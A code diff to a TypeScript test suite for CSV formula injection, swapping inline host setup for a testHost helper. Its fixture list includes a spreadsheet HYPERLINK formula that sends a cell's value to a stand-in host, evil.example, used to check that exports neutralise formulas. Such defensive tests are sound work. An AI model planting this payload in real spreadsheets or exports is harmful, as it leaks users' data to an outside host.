@@ -8,10 +8,10 @@ import { parse } from 'csv-parse/sync'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import type { JobView } from '@shared/models/jobs'
 import type { UserExportDone } from '@shared/models/users'
-import { createHost, type Host } from '../../../src/host/host'
+import type { Host } from '../../../src/host/host'
 import { saveReport } from '../../../src/host/jobs/report'
-import { MemorySecretStore } from '../../../src/host/projects/secret-store'
 import { tempDir } from '../helpers/temp-dir'
+import { testHost } from '../helpers/test-host'
 
 const hostile = [
   '=HYPERLINK("http://evil.example/?"&A2,"Click")',
@@ -28,12 +28,7 @@ const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell)
 describe('CSV formula injection', () => {
   let host: Host
   beforeAll(async () => {
-    host = await createHost({
-      dataDir: tempDir(),
-      shell: 'cli',
-      secrets: new MemorySecretStore(),
-      demo: { seed: 3 },
-    })
+    host = await testHost({ seed: 3 })
     const { clients } = await host.core.projects.resolve('demo')
     for (const [i, name] of hostile.entries()) await clients.users.create({ userId: `formula${i}`, name })
   })
